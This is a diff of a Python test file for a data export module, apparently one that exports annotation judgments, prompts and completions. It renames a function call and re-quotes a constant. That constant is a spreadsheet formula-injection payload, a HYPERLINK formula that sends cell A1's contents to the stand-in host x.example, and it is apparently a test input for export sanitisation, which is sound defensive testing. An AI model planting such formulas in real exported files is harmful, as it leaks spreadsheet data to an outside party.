@@ -12,7 +12,7 @@ from storage.exchange import cells, imports, plain
 from storage.exchange.limits import Limits
 from storage.judging import judgments
 
-FORMULA = "=HYPERLINK(\"http://x.example?\"&A1,\"open\")"
+FORMULA = '=HYPERLINK("http://x.example?"&A1,"open")'
 
 
 @pytest.mark.parametrize(
@@ -62,7 +62,7 @@ def exported(store, path, **options):
 
 
 def kept(store):
-    (found,) = judgments.standing(store)
+    (found,) = judgments.active(store)
     return (found.annotator.name, found.judgment.rationale, found.prompt.text, found.prompt.kind,
             store.value("SELECT text FROM ideal_answers"), [r[0] for r in store.rows("SELECT text FROM completions ORDER BY id")],
             [r[0] for r in store.rows("SELECT name FROM policy_versions ORDER BY id")])  # fmt: skip
